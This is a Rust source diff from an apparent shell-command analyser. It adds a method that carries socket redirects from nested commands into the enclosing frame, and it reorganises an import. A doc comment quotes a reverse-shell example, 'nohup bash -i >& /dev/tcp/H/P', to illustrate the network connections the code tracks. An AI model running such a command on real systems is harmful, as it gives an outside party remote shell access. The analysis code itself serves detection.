@@ -11,9 +11,10 @@ use crate::argv::base_name;
 use crate::dialect::{Dialects, Language};
 use crate::fish;
 use crate::nested::{Code, Nested, What, by_environment, from_input, nested_in};
-use crate::powershell::{self, Translation};
+use crate::powershell;
 use crate::state::{Arguments, Binding, State, Variable};
 use crate::stream::{CommandId, Content, Input, Value, Writer, add};
+use crate::translation::Translation;
 use crate::word::{Cause, Directory, Part, Unknown, Word};
 
 /// What a word costs that another command runs, in steps.
@@ -110,7 +111,20 @@ impl Frame<'_> {
         setting.in_loop |= inner.setting.repeats;
         setting.in_background |= inner.setting.in_background;
         setting.input = Rc::clone(&made.input);
+        if setting.scope == self.setting.scope {
+            self.keep_connections(made, &mut setting);
+        }
         setting
+    }
+
+    /// What a command runs has its connections: `nohup bash -i >& /dev/tcp/H/P`.
+    fn keep_connections(&self, made: &Made<'_>, setting: &mut Setting) {
+        let Some(command) = self.interpreter.commands.get(made.id.0) else { return };
+        for redirect in command.redirects.iter().filter(|redirect| redirect.target.socket().is_some()) {
+            if !setting.redirects.iter().any(|(known, _)| known == redirect) {
+                Rc::make_mut(&mut setting.redirects).push((redirect.clone(), self.state.cwd.clone()));
+            }
+        }
     }
 
     /// Runs words, in a process of their own or in this shell (`command`, `builtin`).
